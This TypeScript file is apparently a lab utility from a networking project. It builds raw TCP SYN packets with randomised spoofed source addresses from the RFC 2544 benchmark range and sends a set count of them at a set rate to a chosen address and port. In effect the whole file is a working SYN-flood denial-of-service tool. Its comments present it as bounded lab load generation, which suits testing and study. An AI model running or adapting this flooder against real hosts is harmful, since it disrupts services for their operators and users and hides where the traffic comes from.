/**
 * A crowd of nobodies: TCP SYNs from addresses at which nobody is, over an interface of the node it runs in. Bounded: it
 * ends by itself after COUNT of them.
 *
 *     syn-flood.ts INTERFACE NEXT-HOP-MAC ADDRESS PORT COUNT PER-SECOND
 */
import { randomInt } from 'node:crypto';
import { setTimeout as pause } from 'node:timers/promises';
import { check, libc } from '../../src/kernel/libc.ts';
import { bindPacketSocket, openPacketSocket } from '../../src/kernel/packet-socket.ts';
import { ethernet, frame, ipv4 } from '../../src/packet/encode.ts';
import { tcp } from '../../src/packet/encode-transport.ts';

const [device = '', mac = '', destination = '', port, count, rate] = process.argv.slice(2);
/** Milliseconds between two bursts. */
const BURST = 5;
const SYN = 2;

const socket = openPacketSocket();
bindPacketSocket(socket, libc.ifNameToIndex(device));

/** From the block for benchmarks (RFC 2544), where nobody of the lab is. */
const nobody = (): string => `198.18.${randomInt(256)}.${randomInt(1, 255)}`;

const knock = (): void => {
  const octets = frame(
    ethernet(
      { source: '02:00:00:0f:00:0d', destination: mac },
      ipv4(
        { source: nobody(), destination },
        tcp({
          sourcePort: randomInt(1024, 65_536),
          destinationPort: Number(port),
          sequence: randomInt(2 ** 32),
          flags: SYN,
          window: 64_240,
        }),
      ),
    ),
  );
  check(libc.send(socket, octets, octets.length, 0), 'send');
};

const total = Number(count);
const each = Math.max(1, Math.round((Number(rate) * BURST) / 1000));
for (let sent = 0; sent < total;) {
  const until = Math.min(total, sent + each);
  for (; sent < until; sent += 1) knock();
  await pause(BURST);
}
libc.close(socket);
process.stdout.write(`${total} SYNs\n`);
